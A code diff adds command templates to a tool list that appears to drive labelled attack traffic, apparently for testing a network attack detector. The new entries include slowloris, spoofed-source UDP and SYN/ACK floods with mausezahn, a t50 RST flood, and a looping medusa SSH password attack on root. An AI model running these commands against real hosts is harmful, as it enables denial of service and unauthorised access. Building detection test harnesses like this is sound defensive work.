@@ -95,6 +95,27 @@ TOOLS = (
     _tool("ab, TLS", f"{_HTTP} tls_flood", "ab -q -t 60 -n 10000000 -c 40 https://{host}/"),
     _tool("h2load", f"{_HTTP} tls_flood", "h2load -c 20 -m 10 -D 60 https://{host}/"),
     _tool("siege", _HTTP, "siege -q -b -c 40 -t 60S http://{host}/"),
+    _tool("bombardier", _HTTP, "bombardier -q -c 50 -d 60s http://{host}/"),
+    _tool("hey", _HTTP, "hey -z 60s -c 40 -q 100 http://{host}/"),
+    _tool("autocannon", _HTTP, "autocannon -c 40 -d 60 http://{host}/"),
+    _tool("slowloris", _SLOW, "slowloris -s 300 --sleeptime 5 {host}"),
+    _tool(
+        "mausezahn: UDP, forged",
+        "udp_flood",
+        "mausezahn lab0 -q -c 0 -d 300u -A rand -B {host} -t udp dp=5060,sp=40000 -p 120",
+    ),
+    _tool(
+        "mausezahn: SYN ACK",
+        "syn_ack_flood tcp_anomaly ack_flood syn_ack_reflection",
+        "mausezahn lab0 -q -c 0 -d 300u -A rand -B {host} -t tcp 'dp=80,sp=443,flags=syn|ack'",
+    ),
+    _tool("t50: RST", "rst_flood tcp_anomaly", "t50 {host} --threshold 900000 --protocol TCP -R --dport 80"),
+    _tool(
+        "medusa: SSH",
+        "password_guessing",
+        "while medusa -h {host} -u root -P {folder}/names -M ssh -t 16; do :; done",
+        "medusa",
+    ),
     _tool(
         "dnsperf",
         "dns_query_flood dns_random_subdomain udp_flood",
